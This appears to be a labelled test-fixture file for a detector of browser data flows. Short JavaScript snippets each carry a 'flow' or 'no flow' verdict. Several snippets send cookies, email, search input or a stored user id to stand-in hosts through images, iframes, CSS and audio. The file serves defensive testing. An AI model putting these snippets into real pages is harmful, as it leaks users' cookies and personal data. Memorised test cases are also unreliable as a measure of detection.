//# image-constructor-src
// flow: identifier > img.el2.example via image
const i1 = new Image(1, 1);
i1.src = 'https://img.el2.example/p.gif?c=' + encodeURIComponent(document.cookie);

//# image-alt-only
// no flow
// why: the text is in alt, which is not requested
const i2 = new Image();
i2.alt = document.querySelector('input[type=email]').value;
i2.src = 'https://alt.el2.example/p.gif';

//# script-src-appended
// flow: device > js.el2.example via script
const s1 = document.createElement('script');
s1.src = 'https://js.el2.example/t.js?ua=' + encodeURIComponent(navigator.userAgent);
document.head.appendChild(s1);

//# script-never-attached
// no flow
// why: a script element is loaded only once it is in the document
const s2 = document.createElement('script');
s2.src = 'https://js0.el2.example/t.js?ua=' + encodeURIComponent(navigator.userAgent);

//# iframe-src
// flow: search > fr.el2.example via iframe
const f1 = document.createElement('iframe');
f1.src = 'https://fr.el2.example/?q=' + encodeURIComponent(document.querySelector('input[type=search]').value);
document.body.append(f1);

//# iframe-title-only
// no flow
// why: title is no address
const f2 = document.createElement('iframe');
f2.title = document.querySelector('input[type=search]').value;
f2.src = 'https://fr0.el2.example/';
document.body.append(f2);

//# stylesheet-link
// flow: device > css.el2.example via css
// why: loading a stylesheet
const l1 = document.createElement('link');
l1.rel = 'stylesheet';
l1.href = 'https://css.el2.example/s.css?w=' + screen.width;
document.head.appendChild(l1);

//# background-image
// flow: email > bg.el2.example via css
const m = document.querySelector('input[type=email]').value;
document.body.style.backgroundImage = 'url(https://bg.el2.example/x.png?m=' + encodeURIComponent(m) + ')';

//# style-color
// no flow
// why: a colour loads nothing
document.body.style.color = document.querySelector('input[name=city]').value;

//# inner-html-img
// flow: identifier > ih.el2.example via image
const box = document.getElementById('box');
box.innerHTML = '<img src="https://ih.el2.example/p?u=' + localStorage.getItem('uid') + '">';

//# text-content-img
// no flow
// why: textContent shows the markup as text, no image is made
const box2 = document.getElementById('box');
box2.textContent = '<img src="https://tc.el2.example/p?u=' + localStorage.getItem('uid') + '">';

//# anchor-ping-set
// no flow
// why: the ping attribute holds a fixed address and the name only becomes the link's text
const a1 = document.createElement('a');
a1.ping = 'https://ping.el2.example/p';
a1.href = '/next';
a1.textContent = document.querySelector('input[autocomplete=name]').value;
document.body.append(a1);

//# video-set-attribute
// flow: device > vid.el2.example via video
const v = document.createElement('video');
v.setAttribute('src', 'https://vid.el2.example/v.mp4?tz=' + new Date().getTimezoneOffset());
document.body.append(v);

//# data-attribute
// no flow
// why: data-src loads nothing by itself
const v2 = document.createElement('img');
v2.dataset.src = 'https://ds.el2.example/i?tz=' + new Date().getTimezoneOffset();
document.body.append(v2);

//# audio-constructor
// flow: identifier > au.el2.example via audio
const au = new Audio('https://au.el2.example/a.mp3?u=' + localStorage.getItem('uid'));
au.play();

//# input-value-set
// no flow
// why: the value is copied into another field only
document.getElementById('confirm').value = document.querySelector('input[type=email]').value;

//# image-fragment
// no flow
// why: the fragment is not part of the request
new Image().src = 'https://if0.el2.example/p.gif#' + encodeURIComponent(document.cookie);
